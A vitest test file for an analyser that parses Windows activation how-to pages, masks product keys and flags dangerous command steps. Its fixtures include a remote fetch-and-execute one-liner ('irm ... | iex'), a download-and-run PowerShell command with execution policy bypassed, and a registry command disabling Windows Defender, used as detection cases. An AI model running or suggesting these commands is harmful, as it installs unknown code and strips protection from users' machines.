import { describe, expect, test } from 'vitest';
import { analyzeDocument, surveyDocument } from '../../../lib/guide/analyze.ts';

const KEY = 'QX2WB-7KD4M-HTR9C-3VNPG-8YFJ6';

function parse(body: string): Document {
  const title = 'How to activate Windows 11 with a product key';
  return new DOMParser().parseFromString(
    `<!doctype html><html lang="en"><title>${title}</title><body><article><h1>${title}</h1>${body}</article></body></html>`,
    'text/html',
  );
}

const GUIDE = `<p>Windows asks for activation after new hardware.</p><h2>Enter the product key</h2><ol>
<li>Open <b>Settings</b> &gt; <b>System</b> &gt; <b>Activation</b>.</li>
<li>Click <b>Change product key</b> and enter ${KEY}.</li>
<li>Run <code>irm https://get.example.net/a | iex</code> in PowerShell.</li></ol>`;

describe('analyzeDocument', () => {
  test('leaves the document as it was', () => {
    const doc = parse(GUIDE);
    const before = doc.documentElement.outerHTML;
    analyzeDocument(doc, { force: true });
    expect(doc.documentElement.outerHTML).toBe(before);
  });

  test('gives what is left after the first look in parts, at least one a procedure, with the same result', () => {
    const doc = parse(`${GUIDE}<h2>Check it</h2><ol><li>Open Settings.</li><li>Click System.</li></ol>`);
    const whole = analyzeDocument(doc).analysis;
    const rest = surveyDocument(doc).rest();
    let parts = 1;
    let part = rest.next();
    for (; !part.done; part = rest.next()) parts++;
    expect(part.value.analysis).toEqual(whole);
    expect(whole.procedures).toHaveLength(2);
    expect(parts).toBeGreaterThan(2);
  });

  test('shows no product key anywhere', () => {
    const { analysis } = analyzeDocument(parse(GUIDE));
    expect(analysis.verdict).toBe('guide');
    expect(JSON.stringify(analysis)).not.toContain('7KD4M');
    expect(analysis.procedures[0]?.steps[1]?.text).toContain('•••••');
  });

  test('takes a remark that is nothing but a command for one', () => {
    const { analysis } = analyzeDocument(
      parse(`<div class="row"><div>1</div><div>Open the command prompt as administrator and give this:</div>
        <div class="mono">wmic path softwarelicensingservice get OA3xOriginalProductKey</div><div>The key appears below.</div></div>
        <div class="row"><div>2</div><div>Open Settings &gt; System &gt; Activation and enter the key.</div></div>`),
    );
    const steps = analysis.procedures.flatMap((procedure) => procedure.steps);
    const all = steps.flatMap((step) => [step, ...step.substeps]);
    expect(all.flatMap(({ commands }) => commands.map(({ text }) => text))).toContain(
      'wmic path softwarelicensingservice get OA3xOriginalProductKey',
    );
    expect(all.flatMap(({ notes }) => notes.map(({ text }) => text)).join()).not.toContain('wmic');
  });

  describe('a section that numbers nothing, in an article that numbers its steps', () => {
    const LISTED = ['Enter the product key'];
    const headings = (section: string) =>
      analyzeDocument(parse(`${GUIDE}${section}`)).analysis.procedures.map(({ heading }) => heading);

    test.each([
      [
        'speaks of the licence',
        '<p>Open <b>Settings</b>, click <b>Accounts</b> and link your digital license.</p>',
      ],
      ['has a command', '<p>Press Win + R, type <code>slmgr /xpr</code> and press <b>Enter</b>.</p>'],
      [
        'leads to a page of Settings',
        '<p>Go to <b>Settings &gt; Accounts &gt; Your info</b> and click <b>Sign in</b>.</p>',
      ],
      [
        'has a bare list of orders',
        '<ul><li>Open <b>Settings</b>.</li><li>Select <b>Activation</b>.</li><li>Click <b>Troubleshoot</b>.</li></ul>',
      ],
      [
        'tells acts one after the other and names the licence',
        '<p>Take the box of the computer.</p><p>Copy the product key from the sticker.</p><p>Call Microsoft and read it out.</p>',
      ],
      [
        'explains first and then tells two acts',
        '<p>The licence may be tied to an account. Open “Your info”. Sign in with the account of the licence.</p>',
      ],
      [
        'tells one act with its command',
        '<p>The key of the licence may be a wrong one.</p><p>Take it out with this command:</p><pre>slmgr /upk</pre>',
      ],
      [
        'sets a command by nothing but its switch',
        '<p>Then remove the product key:</p><p>slmgr /upk</p><p>And restart the computer.</p>',
      ],
      [
        'has a code box of a forum',
        '<p>Start PowerShell and type this:</p><div class="codebox"><p>Code: <a href="#">Select all</a></p><pre>slmgr /dli</pre></div>',
      ],
    ])('is a procedure of the guide where it %s', (_, told) => {
      expect(headings(`<h2>Another way</h2>${told}`)).toEqual([...LISTED, 'Another way']);
    });

    test('is one where the article counts it among its methods', () => {
      const told = '<p>Open the <b>shop</b>, click <b>Orders</b> and choose <b>Show</b>.</p>';
      expect(headings(`<h2>Method 2: your mail</h2>${told}`)).toEqual([...LISTED, 'Method 2: your mail']);
    });

    test.each([
      [
        'speaks of something else',
        '<p>Open the <b>player</b>, click <b>Help</b> and choose <b>About</b>.</p>',
      ],
      [
        'tells of another product',
        '<p>Open <b>Word</b>, click <b>Account</b> and enter the Office product key.</p>',
      ],
      ['only explains', '<p>A digital license belongs to the hardware of a computer.</p>'],
    ])('is none where it %s', (_, told) => {
      expect(headings(`<h2>Another way</h2>${told}`)).toEqual(LISTED);
    });

    test('begins with a question of several that are asked', () => {
      const answer = '<p>Press Win + R. Type <code>slmgr /xpr</code> and press <b>Enter</b>.</p>';
      const told = `<h2>Questions</h2><p>Is it activated?</p>${answer}<p>What does it cost?</p><p>Nothing.</p>`;
      expect(headings(told)).toEqual([...LISTED, 'Is it activated?']);
    });

    test('leaves out lists that tell nothing where others do', () => {
      const history =
        '<ol><li>2019: the server moved to another room.</li><li>2021: the name changed.</li></ol>';
      expect(headings(`<h2>History</h2>${history}`)).toEqual(LISTED);
    });

    test('stays where it is in the article', () => {
      const before =
        '<h2>First way</h2><p>Press Win + R, type <code>slmgr /xpr</code> and press <b>Enter</b>.</p>';
      const { procedures } = analyzeDocument(parse(`${before}${GUIDE}`)).analysis;
      expect(procedures.map(({ heading }) => heading)).toEqual(['First way', ...LISTED]);
    });

    test('is left alone on a page that is no guide', () => {
      const told = '<p>Press Win + R, type <code>slmgr /xpr</code> and press <b>Enter</b>.</p>';
      const doc = new DOMParser().parseFromString(
        `<title>Bread</title><h1>Bread</h1><ol><li>Mix the flour.</li><li>Bake it.</li></ol><h2>Else</h2>${told}`,
        'text/html',
      );
      expect(analyzeDocument(doc, { force: true }).analysis.procedures).toHaveLength(1);
    });
  });

  test('raises each rule once a step, in the words of the command', () => {
    const { analysis } = analyzeDocument(parse(GUIDE));
    const step = analysis.procedures[0]?.steps[2];
    const raised = analysis.risks.filter(({ id }) => step?.risks.includes(id));
    expect(new Set(raised.map(({ rule }) => rule)).size).toBe(raised.length);
    expect(raised.map(({ text }) => text)).toContain('irm https://get.example.net/a | iex');
    expect(step?.commands.map(({ effect }) => effect)).toEqual(['dangerous']);
  });

  describe('commands of a step', () => {
    const commandsIn = (step: string) => {
      const { analysis } = analyzeDocument(
        parse(`${GUIDE}<ol><li>${step}</li><li>Restart Windows.</li></ol>`),
      );
      return analysis.procedures[1]?.steps[0]?.commands.map(({ text }) => text);
    };
    const typed = (code: string) => `Type <code>${code.replaceAll('&', '&amp;')}</code> and press Enter.`;

    test.each([
      String.raw`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v EditionID`,
      String.raw`reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
      String.raw`powershell -ExecutionPolicy Bypass -Command "iwr https://x.example/a.ps1 -OutFile a.ps1, b; .\a.ps1"`,
      `powershell "(Get-WmiObject -query 'select * from SoftwareLicensingService').OA3xOriginalProductKey"`,
      'sc config LicenseManager start= auto && net start LicenseManager',
      'Get-CimInstance SoftwareLicensingProduct | Select-Object Name, LicenseStatus',
      'net stop sppsvc; net start sppsvc',
      'slmgr /ipk <product key>',
    ])('are one where one is set as code: %s', (code) => {
      const marked = typed(code).replace('<product key>', '&lt;product key&gt;');
      expect(commandsIn(marked)).toEqual([code]);
    });

    test('count once, however often and wherever they are told', () => {
      const code = 'net stop sppsvc; net start sppsvc';
      expect(commandsIn(`${typed(code)} If ${code} fails, run it again.`)).toEqual([code]);
      expect(
        commandsIn(`In PowerShell <code>Get-Service sppsvc, bits | Start-Service</code> starts it.`),
      ).toEqual(['Get-Service sppsvc, bits | Start-Service']);
    });

    test('are found in plain words too, beside those in code', () => {
      expect(commandsIn(`${typed('slmgr /dlv')} Then run slmgr /ato and after it slmgr /dlv all.`)).toEqual([
        'slmgr /dlv',
        'slmgr /ato',
        'slmgr /dlv all',
      ]);
    });
  });

  test('every step has a source in the document, and ids are unique and stable', () => {
    const doc = parse(GUIDE);
    const first = analyzeDocument(doc);
    const ids = first.analysis.procedures.flatMap(({ steps }) => steps.map(({ id }) => id));
    expect(new Set(ids).size).toBe(ids.length);
    for (const id of ids) expect(first.sources.get(id)?.every((node) => doc.contains(node))).toBe(true);
    const again = analyzeDocument(parse(GUIDE)).analysis.procedures.flatMap(({ steps }) =>
      steps.map(({ id }) => id),
    );
    expect(again).toEqual(ids);
  });

  test('a page that is no guide has no steps unless they are asked for', () => {
    const doc = parse('');
    doc.title = 'Bread';
    doc.querySelector('h1')?.remove();
    doc
      .querySelector('article')
      ?.append(
        ...new DOMParser().parseFromString(
          '<ol><li>Open the flour.</li><li>Press the dough.</li></ol>',
          'text/html',
        ).body.childNodes,
      );
    expect(analyzeDocument(doc).analysis).toMatchObject({ verdict: 'other', procedures: [] });
    expect(analyzeDocument(doc, { force: true }).analysis.procedures[0]?.steps).toHaveLength(2);
  });

  test('a document without a body is no guide', () => {
    const doc = new DOMParser().parseFromString('<a><b>activate Windows</b></a>', 'application/xml');
    expect(analyzeDocument(doc, { force: true }).analysis.verdict).toBe('other');
  });
});
